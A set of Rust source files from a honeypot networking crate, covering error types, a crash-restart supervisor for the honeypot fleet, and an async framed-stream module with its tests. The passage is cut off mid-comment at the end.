            NetError::protocol("bad magic").to_string(),
            "protocol violation: bad magic"
        );
        assert_eq!(
            NetError::FrameTooLarge { limit: 16, got: 32 }.to_string(),
            "frame of 32 bytes exceeds limit of 16"
        );
        assert_eq!(NetError::IdleTimeout.to_string(), "session idle timeout");
    }

    #[test]
    fn io_eof_maps_to_unexpected_eof() {
        let e: NetError = std::io::Error::new(std::io::ErrorKind::UnexpectedEof, "eof").into();
        assert!(matches!(e, NetError::UnexpectedEof));
        assert!(e.is_peer_fault());
    }

    #[test]
    fn peer_fault_classification() {
        assert!(NetError::protocol("x").is_peer_fault());
        assert!(!NetError::IdleTimeout.is_peer_fault());
        assert!(!NetError::Shutdown.is_peer_fault());
        assert!(!NetError::Rejected("full".into()).is_peer_fault());
    }

    #[test]
    fn wire_error_display_and_classification() {
        let e = WireError::new(
            WireProtocol::Pgwire,
            17,
            WireErrorKind::Truncated {
                needed: 4,
                available: 2,
            },
        );
        assert_eq!(
            e.to_string(),
            "pgwire at byte 17: truncated field (need 4 bytes, have 2)"
        );
        let net: NetError = e.into();
        assert!(net.is_peer_fault());
        assert_eq!(
            net.to_string(),
            "protocol violation: pgwire at byte 17: truncated field (need 4 bytes, have 2)"
        );
    }

    #[test]
    fn wire_error_kinds_format() {
        let k = WireErrorKind::LengthOutOfRange {
            declared: 1 << 40,
            max: 1 << 20,
        };
        assert_eq!(
            WireError::new(WireProtocol::Mongo, 0, k).to_string(),
            "mongo at byte 0: length 1099511627776 out of range (max 1048576)"
        );
        assert_eq!(
            WireErrorKind::BadMagic { what: "tag byte" }.to_string(),
            "bad tag byte"
        );
        assert_eq!(
            WireErrorKind::Unterminated { what: "cstring" }.to_string(),
            "unterminated cstring"
        );
        assert_eq!(
            WireErrorKind::NestingTooDeep { limit: 32 }.to_string(),
            "nesting deeper than 32"
        );
    }
}
