//! Error type shared by the networking substrate.

use std::fmt;

/// Errors produced by codecs, framed streams, and the server substrate.
#[derive(Debug)]
pub enum NetError {
    /// Underlying socket I/O failed.
    Io(std::io::Error),
    /// The peer sent bytes that do not form a valid frame for the protocol.
    ///
    /// Honeypots treat this as *signal*, not failure: malformed input is
    /// logged and the session usually answers with the protocol's error
    /// reply instead of being torn down.
    Protocol(String),
    /// A frame exceeded the per-protocol size limit.
    FrameTooLarge {
        /// The codec's limit in bytes.
        limit: usize,
        /// Bytes buffered when the limit tripped.
        got: usize,
    },
    /// The peer closed the connection mid-frame.
    UnexpectedEof,
    /// The session exceeded its idle timeout.
    IdleTimeout,
    /// The listener is shutting down.
    Shutdown,
    /// The rate limiter or connection gate rejected the peer.
    Rejected(String),
}

impl NetError {
    /// Convenience constructor for protocol violations.
    pub fn protocol(msg: impl Into<String>) -> Self {
        NetError::Protocol(msg.into())
    }

    /// True when the error is attributable to peer behaviour rather than to
    /// our own machinery (used to decide whether a session counts as
    /// "malformed input observed" in the logs).
    pub fn is_peer_fault(&self) -> bool {
        matches!(
            self,
            NetError::Protocol(_) | NetError::FrameTooLarge { .. } | NetError::UnexpectedEof
        )
    }
}

impl fmt::Display for NetError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NetError::Io(e) => write!(f, "i/o error: {e}"),
            NetError::Protocol(m) => write!(f, "protocol violation: {m}"),
            NetError::FrameTooLarge { limit, got } => {
                write!(f, "frame of {got} bytes exceeds limit of {limit}")
            }
            NetError::UnexpectedEof => write!(f, "peer closed connection mid-frame"),
            NetError::IdleTimeout => write!(f, "session idle timeout"),
            NetError::Shutdown => write!(f, "server shutting down"),
            NetError::Rejected(m) => write!(f, "connection rejected: {m}"),
        }
    }
}

impl std::error::Error for NetError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            NetError::Io(e) => Some(e),
            _ => None,
        }
    }
}

impl From<std::io::Error> for NetError {
    fn from(e: std::io::Error) -> Self {
        if e.kind() == std::io::ErrorKind::UnexpectedEof {
            NetError::UnexpectedEof
        } else {
            NetError::Io(e)
        }
    }
}

/// Result alias used throughout the substrate.
pub type NetResult<T> = Result<T, NetError>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_formats_are_stable() {
        assert_eq!(
            NetError::protocol("bad magic").to_string(),
            "protocol violation: bad magic"
        );
        assert_eq!(
            NetError::FrameTooLarge { limit: 16, got: 32 }.to_string(),
            "frame of 32 bytes exceeds limit of 16"
        );
        assert_eq!(NetError::IdleTimeout.to_string(), "session idle timeout");
    }

    #[test]
    fn io_eof_maps_to_unexpected_eof() {
        let e: NetError = std::io::Error::new(std::io::ErrorKind::UnexpectedEof, "eof").into();
        assert!(matches!(e, NetError::UnexpectedEof));
        assert!(e.is_peer_fault());
    }

    #[test]
    fn peer_fault_classification() {
        assert!(NetError::protocol("x").is_peer_fault());
        assert!(!NetError::IdleTimeout.is_peer_fault());
        assert!(!NetError::Shutdown.is_peer_fault());
        assert!(!NetError::Rejected("full".into()).is_peer_fault());
    }
}
