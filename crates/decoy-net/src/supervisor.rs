//! Restart supervision for the honeypot fleet.
//!
//! The paper's artifact is 278 honeypots surviving 20 days unattended —
//! uptime *is* the experiment. A [`Supervisor`] keeps each
//! [`crate::server::Listener`] alive: when an accept loop dies it rebinds
//! the same address under jittered exponential [`BackoffPolicy`] delays,
//! a crash-loop circuit [`BreakerPolicy`] takes persistent failures to
//! [`HealthState::Down`] instead of restarting forever, and every
//! transition is pushed through an observer callback so the deployment can
//! log it into the event store. [`Supervisor::fleet_health`] exposes the
//! whole fleet's state as a [`FleetHealth`] snapshot for reports.
//!
//! Determinism: backoff jitter is derived from the seeded hash in
//! [`crate::chaos`] (keyed by listener and attempt), never from a global
//! RNG, so a seeded chaos replay schedules the same delays every run.

use crate::chaos::per_mille;
use crate::server::{ListenerExit, ServerHandle};
use crate::time::{Clock, Timestamp};
use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use std::future::Future;
use std::io;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::watch;
use tokio::task::JoinHandle;

/// Health of one supervised listener.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum HealthState {
    /// Accepting connections, no recent crash.
    Healthy,
    /// Restarted recently; watching for a crash loop.
    Degraded,
    /// Circuit breaker open: crash loop or rebind failure; not restarting.
    Down,
}

impl HealthState {
    /// Display label used in report tables.
    pub fn label(&self) -> &'static str {
        match self {
            HealthState::Healthy => "healthy",
            HealthState::Degraded => "degraded",
            HealthState::Down => "down",
        }
    }
}

/// Jittered exponential backoff between restart attempts.
#[derive(Debug, Clone)]
pub struct BackoffPolicy {
    /// Delay before the first restart attempt.
    pub base: Duration,
    /// Upper bound on the exponential delay.
    pub cap: Duration,
    /// Extra jitter added on top, up to this ‰ of the computed delay.
    pub jitter_per_mille: u64,
    /// Rebind attempts before the listener is declared [`HealthState::Down`].
    pub max_attempts: u32,
}

impl Default for BackoffPolicy {
    fn default() -> Self {
        BackoffPolicy {
            base: Duration::from_millis(50),
            cap: Duration::from_secs(2),
            jitter_per_mille: 250,
            max_attempts: 8,
        }
    }
}

impl BackoffPolicy {
    /// The delay before restart attempt `attempt` (0-based), deterministic
    /// in `(seed, attempt)`.
    pub fn delay(&self, seed: u64, attempt: u32) -> Duration {
        let exp = self
            .base
            .saturating_mul(2u32.saturating_pow(attempt.min(16)))
            .min(self.cap);
        let base_ms = u64::try_from(exp.as_millis()).unwrap_or(u64::MAX);
        let roll = per_mille(seed, u64::from(attempt), 0, 0xB0);
        let extra_ms = base_ms
            .saturating_mul(self.jitter_per_mille.min(1000))
            .saturating_mul(roll)
            / 1_000_000;
        Duration::from_millis(base_ms.saturating_add(extra_ms))
    }
}

/// Crash-loop circuit breaker: more than `max_restarts` crashes inside
/// `window` opens the circuit ([`HealthState::Down`], no more restarts).
#[derive(Debug, Clone)]
pub struct BreakerPolicy {
    /// Crashes tolerated within the window before going down.
    pub max_restarts: u32,
    /// Sliding crash-counting window; also the stable-uptime span after
    /// which a degraded listener is promoted back to healthy.
    pub window: Duration,
}

impl Default for BreakerPolicy {
    fn default() -> Self {
        BreakerPolicy {
            max_restarts: 5,
            window: Duration::from_secs(30),
        }
    }
}

/// Supervisor tuning knobs.
#[derive(Debug, Clone, Default)]
pub struct SupervisorOptions {
    /// Restart delay policy.
    pub backoff: BackoffPolicy,
    /// Crash-loop circuit breaker.
    pub breaker: BreakerPolicy,
    /// Session-drain allowance on orderly shutdown.
    pub drain: Duration,
}

impl SupervisorOptions {
    /// Tight timings for compressed-time replays and tests: restarts within
    /// tens of milliseconds, a breaker window short enough to both trip and
    /// recover inside a test run.
    pub fn fast_replay() -> Self {
        SupervisorOptions {
            backoff: BackoffPolicy {
                base: Duration::from_millis(10),
                cap: Duration::from_millis(250),
                jitter_per_mille: 250,
                max_attempts: 8,
            },
            breaker: BreakerPolicy {
                max_restarts: 32,
                window: Duration::from_millis(1500),
            },
            drain: Duration::from_secs(5),
        }
    }
}

/// One health transition, pushed to the observer as it happens.
#[derive(Debug, Clone)]
pub struct Transition {
    /// Supervised listener's display name.
    pub name: String,
    /// State entered.
    pub state: HealthState,
    /// Total restarts of this listener so far.
    pub restarts: u32,
    /// Human-readable cause.
    pub detail: String,
    /// When (on the supervisor's clock — virtual time in replays).
    pub at: Timestamp,
}

/// Callback invoked on every health transition.
pub type TransitionObserver = Arc<dyn Fn(&Transition) + Send + Sync>;

/// Snapshot of one listener's health.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ListenerHealth {
    /// Display name.
    pub name: String,
    /// Current state.
    pub state: HealthState,
    /// Total restarts so far.
    pub restarts: u32,
    /// Bound address; `None` once the listener is down.
    pub addr: Option<SocketAddr>,
}

/// Point-in-time health of every supervised listener.
#[derive(Debug, Clone, Default)]
pub struct FleetHealth {
    /// One entry per supervised listener, in registration order.
    pub listeners: Vec<ListenerHealth>,
}

impl FleetHealth {
    /// Listeners currently in `state`.
    pub fn count(&self, state: HealthState) -> usize {
        self.listeners.iter().filter(|l| l.state == state).count()
    }

    /// Total restarts across the fleet.
    pub fn restarts_total(&self) -> u64 {
        self.listeners.iter().map(|l| u64::from(l.restarts)).sum()
    }

    /// One-line summary for logs and reports.
    pub fn summary(&self) -> String {
        format!(
            "{} listeners: {} healthy, {} degraded, {} down, {} restarts",
            self.listeners.len(),
            self.count(HealthState::Healthy),
            self.count(HealthState::Degraded),
            self.count(HealthState::Down),
            self.restarts_total()
        )
    }
}

/// Factory the supervisor calls to (re)bind a listener at an address.
pub type ListenerFactory = Box<
    dyn Fn(SocketAddr) -> Pin<Box<dyn Future<Output = io::Result<ServerHandle>> + Send>>
        + Send
        + Sync,
>;

/// Handle to one supervised listener.
pub struct SupervisedListener {
    addr: SocketAddr,
    slot: Arc<Mutex<ListenerHealth>>,
}

impl SupervisedListener {
    /// The pinned address the listener serves (stable across restarts).
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Current health snapshot.
    pub fn health(&self) -> ListenerHealth {
        self.slot.lock().clone()
    }
}

/// Keeps a fleet of listeners alive; see the module docs.
pub struct Supervisor {
    options: SupervisorOptions,
    clock: Clock,
    shutdown_tx: watch::Sender<bool>,
    slots: Mutex<Vec<Arc<Mutex<ListenerHealth>>>>,
    tasks: Mutex<Vec<JoinHandle<()>>>,
}

impl Supervisor {
    /// A supervisor stamping transitions on `clock`.
    pub fn new(options: SupervisorOptions, clock: Clock) -> Self {
        let (shutdown_tx, _) = watch::channel(false);
        Supervisor {
            options,
            clock,
            shutdown_tx,
            slots: Mutex::new(Vec::new()),
            tasks: Mutex::new(Vec::new()),
        }
    }

    /// Bind a listener through `factory` at `bind` and keep it alive.
    ///
    /// `factory` is called once now (propagating the initial bind error to
    /// the caller) and again after every crash, always with the concrete
    /// address from the first bind so the deployment's address map stays
    /// valid across restarts. `fault_seed` keys the deterministic backoff
    /// jitter; `observer` sees every health transition.
    pub async fn supervise(
        &self,
        name: impl Into<String>,
        bind: SocketAddr,
        fault_seed: u64,
        factory: ListenerFactory,
        observer: Option<TransitionObserver>,
    ) -> io::Result<SupervisedListener> {
        let name = name.into();
        let handle = factory(bind).await?;
        let pinned = handle.local_addr();
        let slot = Arc::new(Mutex::new(ListenerHealth {
            name: name.clone(),
            state: HealthState::Healthy,
            restarts: 0,
            addr: Some(pinned),
        }));
        emit(
            &slot,
            &observer,
            &self.clock,
            HealthState::Healthy,
            0,
            format!("listener bound at {pinned}"),
        );
        let shutdown = watch_signal(&self.shutdown_tx);
        let task = tokio::spawn(run_loop(RunLoop {
            pinned,
            handle,
            factory,
            slot: slot.clone(),
            observer,
            options: self.options.clone(),
            clock: self.clock.clone(),
            shutdown,
            fault_seed,
        }));
        self.slots.lock().push(slot.clone());
        self.tasks.lock().push(task);
        Ok(SupervisedListener { addr: pinned, slot })
    }

    /// Snapshot of every supervised listener's health.
    pub fn fleet_health(&self) -> FleetHealth {
        FleetHealth {
            listeners: self.slots.lock().iter().map(|s| s.lock().clone()).collect(),
        }
    }

    /// Stop all supervised listeners and wait for their supervision tasks.
    pub async fn shutdown(&self) {
        let _ = self.shutdown_tx.send(true);
        let tasks: Vec<JoinHandle<()>> = std::mem::take(&mut *self.tasks.lock());
        for task in tasks {
            let _ = task.await;
        }
    }
}

fn watch_signal(tx: &watch::Sender<bool>) -> crate::server::ShutdownSignal {
    crate::server::shutdown_signal_from(tx.subscribe())
}

fn emit(
    slot: &Arc<Mutex<ListenerHealth>>,
    observer: &Option<TransitionObserver>,
    clock: &Clock,
    state: HealthState,
    restarts: u32,
    detail: String,
) {
    let name = {
        let mut s = slot.lock();
        s.state = state;
        s.restarts = restarts;
        if state == HealthState::Down {
            s.addr = None;
        }
        s.name.clone()
    };
    if let Some(obs) = observer {
        obs(&Transition {
            name,
            state,
            restarts,
            detail,
            at: clock.now(),
        });
    }
}

struct RunLoop {
    pinned: SocketAddr,
    handle: ServerHandle,
    factory: ListenerFactory,
    slot: Arc<Mutex<ListenerHealth>>,
    observer: Option<TransitionObserver>,
    options: SupervisorOptions,
    clock: Clock,
    shutdown: crate::server::ShutdownSignal,
    fault_seed: u64,
}

enum Tick {
    Exit(ListenerExit),
    Quit,
    Promote,
}

async fn run_loop(mut rl: RunLoop) {
    let mut restarts: u32 = 0;
    let mut window_start = tokio::time::Instant::now();
    let mut in_window: u32 = 0;
    // Armed (checked by the `degraded` guard) only after a restart.
    let mut stable_at = tokio::time::Instant::now();
    let mut handle = rl.handle;
    loop {
        let degraded = rl.slot.lock().state == HealthState::Degraded;
        let tick = tokio::select! {
            biased;
            _ = rl.shutdown.wait() => Tick::Quit,
            exit = handle.wait_exit() => Tick::Exit(exit),
            _ = tokio::time::sleep_until(stable_at), if degraded => Tick::Promote,
        };
        match tick {
            Tick::Quit => {
                handle.shutdown_with_deadline(rl.options.drain).await;
                return;
            }
            Tick::Promote => {
                emit(
                    &rl.slot,
                    &rl.observer,
                    &rl.clock,
                    HealthState::Healthy,
                    restarts,
                    "stable since restart".to_string(),
                );
            }
            // Externally shut down: nothing left to supervise.
            Tick::Exit(ListenerExit::Shutdown) => return,
            Tick::Exit(ListenerExit::Crashed) => {
                let now = tokio::time::Instant::now();
                if now.duration_since(window_start) > rl.options.breaker.window {
                    window_start = now;
                    in_window = 0;
                }
                in_window += 1;
                restarts = restarts.saturating_add(1);
                if in_window > rl.options.breaker.max_restarts {
                    emit(
                        &rl.slot,
                        &rl.observer,
                        &rl.clock,
                        HealthState::Down,
                        restarts,
                        format!(
                            "crash loop: {in_window} crashes within {:?}; circuit open",
                            rl.options.breaker.window
                        ),
                    );
                    rl.shutdown.wait().await;
                    return;
                }
                emit(
                    &rl.slot,
                    &rl.observer,
                    &rl.clock,
                    HealthState::Degraded,
                    restarts,
                    "accept loop died; restarting".to_string(),
                );
                let mut attempt: u32 = 0;
                handle = loop {
                    let delay = rl.options.backoff.delay(rl.fault_seed, attempt);
                    attempt = attempt.saturating_add(1);
                    tokio::select! {
                        biased;
                        _ = rl.shutdown.wait() => return,
                        _ = tokio::time::sleep(delay) => {}
                    }
                    match (rl.factory)(rl.pinned).await {
                        Ok(h) => break h,
                        Err(e) => {
                            if attempt >= rl.options.backoff.max_attempts {
                                emit(
                                    &rl.slot,
                                    &rl.observer,
                                    &rl.clock,
                                    HealthState::Down,
                                    restarts,
                                    format!("rebind failed after {attempt} attempts: {e}"),
                                );
                                rl.shutdown.wait().await;
                                return;
                            }
                        }
                    }
                };
                rl.slot.lock().addr = Some(rl.pinned);
                emit(
                    &rl.slot,
                    &rl.observer,
                    &rl.clock,
                    HealthState::Degraded,
                    restarts,
                    format!("restarted (restart #{restarts}) at {}", rl.pinned),
                );
                stable_at = tokio::time::Instant::now() + rl.options.breaker.window;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chaos::FaultPlan;
    use crate::codec::LineCodec;
    use crate::framed::Framed;
    use crate::server::{Listener, ListenerOptions, SessionCtx, SessionHandler, SessionStream};
    use std::sync::atomic::{AtomicU32, Ordering};
    use tokio::net::TcpStream;

    struct Echo;
    impl SessionHandler for Echo {
        async fn handle(self: Arc<Self>, stream: SessionStream, _ctx: SessionCtx) {
            let mut framed = Framed::new(stream, LineCodec::default());
            while let Ok(Some(line)) = framed.read_frame().await {
                if framed.write_frame(&line).await.is_err() {
                    break;
                }
            }
        }
    }

    #[test]
    fn backoff_is_deterministic_exponential_and_capped() {
        let policy = BackoffPolicy::default();
        for attempt in 0..20 {
            assert_eq!(policy.delay(7, attempt), policy.delay(7, attempt));
            // jitter adds at most 25% on top of the capped exponential
            let cap = policy.cap + policy.cap / 4;
            assert!(policy.delay(7, attempt) <= cap);
        }
        assert!(policy.delay(7, 3) >= policy.base * 8);
        // different seeds, different jitter somewhere
        assert!((0..20).any(|a| policy.delay(1, a) != policy.delay(2, a)));
    }

    /// Factory whose first bind injects a crash-on-accept fault and whose
    /// rebinds are clean: exactly one deterministic crash.
    fn crash_once_factory(calls: Arc<AtomicU32>) -> ListenerFactory {
        Box::new(move |addr| {
            let calls = calls.clone();
            Box::pin(async move {
                let n = calls.fetch_add(1, Ordering::SeqCst);
                let faults = (n == 0).then(|| FaultPlan {
                    crash_per_mille: 1000,
                    ..FaultPlan::new(1)
                });
                let options = ListenerOptions {
                    faults,
                    ..ListenerOptions::default()
                };
                Listener::bind(addr, Arc::new(Echo), options).await
            })
        })
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn restarts_after_crash_and_promotes_to_healthy() {
        let options = SupervisorOptions {
            backoff: BackoffPolicy {
                base: Duration::from_millis(10),
                cap: Duration::from_millis(50),
                jitter_per_mille: 0,
                max_attempts: 4,
            },
            breaker: BreakerPolicy {
                max_restarts: 3,
                window: Duration::from_millis(200),
            },
            drain: Duration::from_millis(200),
        };
        let supervisor = Supervisor::new(options, Clock::Wall);
        let calls = Arc::new(AtomicU32::new(0));
        let transitions: Arc<parking_lot::Mutex<Vec<(HealthState, u32)>>> =
            Arc::new(parking_lot::Mutex::new(Vec::new()));
        let seen = transitions.clone();
        let observer: TransitionObserver =
            Arc::new(move |t: &Transition| seen.lock().push((t.state, t.restarts)));
        let listener = supervisor
            .supervise(
                "echo",
                "127.0.0.1:0".parse().unwrap(),
                7,
                crash_once_factory(calls),
                Some(observer),
            )
            .await
            .unwrap();
        let addr = listener.addr();

        // First connection trips the injected crash.
        let s = TcpStream::connect(addr).await.unwrap();
        drop(s);
        // The supervisor must rebind the same address and serve again.
        let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
        loop {
            if let Ok(stream) = TcpStream::connect(addr).await {
                let mut framed = Framed::new(stream, LineCodec::default());
                if framed.write_frame(&"ping".to_string()).await.is_ok() {
                    if let Ok(Some(echoed)) = framed.read_frame().await {
                        assert_eq!(echoed, "ping");
                        break;
                    }
                }
            }
            if tokio::time::Instant::now() > deadline {
                panic!("listener never came back after crash");
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        // Stability window passes -> Healthy again.
        let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
        while listener.health().state != HealthState::Healthy {
            if tokio::time::Instant::now() > deadline {
                panic!("listener stuck in {:?}", listener.health().state);
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        let health = listener.health();
        assert_eq!(health.restarts, 1);
        let fleet = supervisor.fleet_health();
        assert_eq!(fleet.restarts_total(), 1);
        assert_eq!(fleet.count(HealthState::Healthy), 1);
        let states: Vec<HealthState> = transitions.lock().iter().map(|(s, _)| *s).collect();
        assert!(states.contains(&HealthState::Degraded));
        assert_eq!(states.first(), Some(&HealthState::Healthy));
        assert_eq!(states.last(), Some(&HealthState::Healthy));
        supervisor.shutdown().await;
    }

    /// Factory that always injects crash-on-accept: a crash loop.
    fn always_crash_factory() -> ListenerFactory {
        Box::new(|addr| {
            Box::pin(async move {
                let options = ListenerOptions {
                    faults: Some(FaultPlan {
                        crash_per_mille: 1000,
                        ..FaultPlan::new(2)
                    }),
                    ..ListenerOptions::default()
                };
                Listener::bind(addr, Arc::new(Echo), options).await
            })
        })
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn crash_loop_opens_the_circuit_breaker() {
        let options = SupervisorOptions {
            backoff: BackoffPolicy {
                base: Duration::from_millis(5),
                cap: Duration::from_millis(10),
                jitter_per_mille: 0,
                max_attempts: 4,
            },
            breaker: BreakerPolicy {
                max_restarts: 2,
                window: Duration::from_secs(30),
            },
            drain: Duration::ZERO,
        };
        let supervisor = Supervisor::new(options, Clock::Wall);
        let listener = supervisor
            .supervise(
                "crashy",
                "127.0.0.1:0".parse().unwrap(),
                3,
                always_crash_factory(),
                None,
            )
            .await
            .unwrap();
        let addr = listener.addr();
        // Keep poking until the breaker opens.
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        while listener.health().state != HealthState::Down {
            let _ = TcpStream::connect(addr).await;
            if tokio::time::Instant::now() > deadline {
                panic!("breaker never opened: {:?}", listener.health());
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        let health = listener.health();
        assert_eq!(health.state, HealthState::Down);
        assert_eq!(health.addr, None);
        assert!(health.restarts >= 3);
        assert_eq!(supervisor.fleet_health().count(HealthState::Down), 1);
        supervisor.shutdown().await;
    }
}
