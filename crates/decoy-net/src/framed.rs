//! The async frame stream: a [`Codec`] bound to an `AsyncRead + AsyncWrite`.
//!
//! Split from [`crate::codec`] so the codec layer itself stays synchronous
//! and I/O-free — decoders over attacker bytes can be compiled, tested, and
//! fuzzed without a runtime.

use crate::codec::Codec;
use crate::error::{NetError, NetResult};
use bytes::BytesMut;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

/// A frame-oriented wrapper around a byte stream.
///
/// Owns the read buffer; `read_frame` loops `decode` / `read_buf` until a
/// frame is complete, the peer disconnects, or the frame limit is exceeded.
pub struct Framed<S, C> {
    stream: S,
    codec: C,
    read_buf: BytesMut,
    write_buf: BytesMut,
}

impl<S, C> Framed<S, C>
where
    S: AsyncRead + AsyncWrite + Unpin,
    C: Codec,
{
    /// Wrap `stream` with `codec`.
    pub fn new(stream: S, codec: C) -> Self {
        Self::with_initial(stream, codec, BytesMut::with_capacity(4096))
    }

    /// Wrap `stream` with `codec`, seeding the read buffer with bytes that
    /// were already consumed from the stream (e.g. while peeking for a
    /// PROXY protocol header).
    pub fn with_initial(stream: S, codec: C, initial: BytesMut) -> Self {
        Framed {
            stream,
            codec,
            read_buf: initial,
            write_buf: BytesMut::with_capacity(4096),
        }
    }

    /// Access the codec (some protocols carry handshake state in it).
    pub fn codec_mut(&mut self) -> &mut C {
        &mut self.codec
    }

    /// Bytes currently buffered but not yet decoded.
    pub fn buffered(&self) -> &[u8] {
        &self.read_buf
    }

    /// Read one frame, or `None` on clean EOF at a frame boundary.
    pub async fn read_frame(&mut self) -> NetResult<Option<C::In>> {
        loop {
            if let Some(frame) = self.codec.decode(&mut self.read_buf)? {
                return Ok(Some(frame));
            }
            if self.read_buf.len() > self.codec.max_frame_len() {
                return Err(NetError::FrameTooLarge {
                    limit: self.codec.max_frame_len(),
                    got: self.read_buf.len(),
                });
            }
            let n = self.stream.read_buf(&mut self.read_buf).await?;
            if n == 0 {
                return if self.read_buf.is_empty() {
                    Ok(None)
                } else {
                    Err(NetError::UnexpectedEof)
                };
            }
        }
    }

    /// Encode and flush one frame.
    pub async fn write_frame(&mut self, frame: &C::Out) -> NetResult<()> {
        self.write_buf.clear();
        self.codec.encode(frame, &mut self.write_buf)?;
        self.stream.write_all(&self.write_buf).await?;
        self.stream.flush().await?;
        Ok(())
    }

    /// Write raw bytes (used for canned banners that bypass the codec).
    pub async fn write_raw(&mut self, bytes: &[u8]) -> NetResult<()> {
        self.stream.write_all(bytes).await?;
        self.stream.flush().await?;
        Ok(())
    }

    /// Consume the wrapper, returning the underlying stream and any
    /// unconsumed buffered bytes.
    pub fn into_parts(self) -> (S, BytesMut) {
        (self.stream, self.read_buf)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::codec::{LineCodec, RawCodec};
    use tokio::io::duplex;

    #[tokio::test]
    async fn framed_roundtrip_over_duplex() {
        let (a, b) = duplex(256);
        let mut fa = Framed::new(a, LineCodec::default());
        let mut fb = Framed::new(b, LineCodec::default());
        fa.write_frame(&"ping".to_string()).await.unwrap();
        assert_eq!(fb.read_frame().await.unwrap(), Some("ping".to_string()));
        fb.write_frame(&"pong".to_string()).await.unwrap();
        assert_eq!(fa.read_frame().await.unwrap(), Some("pong".to_string()));
        drop(fb);
        assert_eq!(fa.read_frame().await.unwrap(), None); // clean EOF
    }

    #[tokio::test]
    async fn framed_eof_mid_frame_is_error() {
        let (a, b) = duplex(256);
        let mut fa = Framed::new(a, LineCodec::default());
        let mut fb = Framed::new(b, RawCodec);
        fb.write_frame(&b"incomplete".to_vec()).await.unwrap();
        drop(fb);
        assert!(matches!(
            fa.read_frame().await,
            Err(NetError::UnexpectedEof)
        ));
    }

    #[tokio::test]
    async fn framed_enforces_frame_limit() {
        let (a, b) = duplex(4096);
        let mut fa = Framed::new(a, LineCodec::with_max_len(8));
        let mut fb = Framed::new(b, RawCodec);
        fb.write_frame(&vec![b'x'; 64]).await.unwrap();
        assert!(matches!(
            fa.read_frame().await,
            Err(NetError::FrameTooLarge { .. })
        ));
    }
}
