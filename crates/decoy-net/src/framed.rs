//! The async frame stream: a [`Codec`] bound to an `AsyncRead + AsyncWrite`.
//!
//! Split from [`crate::codec`] so the codec layer itself stays synchronous
//! and I/O-free — decoders over attacker bytes can be compiled, tested, and
//! fuzzed without a runtime.
//!
//! Both buffers are checked out of the process-wide
//! [`crate::pool::BufferPool`] and restored when the `Framed` is dropped,
//! so a churning session fleet reuses framing buffers instead of hitting
//! the allocator per connection. [`Framed::write_split`] writes a
//! pooled-buffer head and a borrowed body with one vectored syscall, so
//! large response bodies (HTTP, bulk documents) are never copied into the
//! write buffer at all.

use crate::codec::Codec;
use crate::error::{NetError, NetResult};
use crate::pool::{BufferPool, PooledBuf, SMALL_CLASS};
use bytes::BytesMut;
use std::io::IoSlice;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

/// A frame-oriented wrapper around a byte stream.
///
/// Owns the read buffer; `read_frame` loops `decode` / `read_buf` until a
/// frame is complete, the peer disconnects, or the frame limit is exceeded.
pub struct Framed<S, C> {
    stream: S,
    codec: C,
    read_buf: PooledBuf,
    write_buf: PooledBuf,
}

impl<S, C> Framed<S, C>
where
    S: AsyncRead + AsyncWrite + Unpin,
    C: Codec,
{
    /// Wrap `stream` with `codec`, using pooled framing buffers.
    pub fn new(stream: S, codec: C) -> Self {
        let pool = BufferPool::global();
        Framed {
            stream,
            codec,
            read_buf: pool.checkout_guarded(SMALL_CLASS),
            write_buf: pool.checkout_guarded(SMALL_CLASS),
        }
    }

    /// Wrap `stream` with `codec`, seeding the read buffer with bytes that
    /// were already consumed from the stream (e.g. while peeking for a
    /// PROXY protocol header). The seeded buffer was allocated by the
    /// peeker, so it lives detached from the pool.
    pub fn with_initial(stream: S, codec: C, initial: BytesMut) -> Self {
        Framed {
            stream,
            codec,
            read_buf: PooledBuf::detached(initial),
            write_buf: BufferPool::global().checkout_guarded(SMALL_CLASS),
        }
    }

    /// Access the codec (some protocols carry handshake state in it).
    pub fn codec_mut(&mut self) -> &mut C {
        &mut self.codec
    }

    /// Bytes currently buffered but not yet decoded.
    pub fn buffered(&self) -> &[u8] {
        &self.read_buf
    }

    /// Read one frame, or `None` on clean EOF at a frame boundary.
    pub async fn read_frame(&mut self) -> NetResult<Option<C::In>> {
        loop {
            if let Some(frame) = self.codec.decode(&mut self.read_buf)? {
                return Ok(Some(frame));
            }
            if self.read_buf.len() > self.codec.max_frame_len() {
                return Err(NetError::FrameTooLarge {
                    limit: self.codec.max_frame_len(),
                    got: self.read_buf.len(),
                });
            }
            let n = self.stream.read_buf(&mut *self.read_buf).await?;
            if n == 0 {
                return if self.read_buf.is_empty() {
                    Ok(None)
                } else {
                    Err(NetError::UnexpectedEof)
                };
            }
        }
    }

    /// Encode and flush one frame.
    pub async fn write_frame(&mut self, frame: &C::Out) -> NetResult<()> {
        self.write_buf.clear();
        self.codec.encode(frame, &mut self.write_buf)?;
        self.stream.write_all(&self.write_buf).await?;
        self.stream.flush().await?;
        Ok(())
    }

    /// Write raw bytes (used for canned banners that bypass the codec).
    pub async fn write_raw(&mut self, bytes: &[u8]) -> NetResult<()> {
        self.stream.write_all(bytes).await?;
        self.stream.flush().await?;
        Ok(())
    }

    /// Write a response as a head rendered into the pooled write buffer
    /// plus a borrowed body, using vectored I/O.
    ///
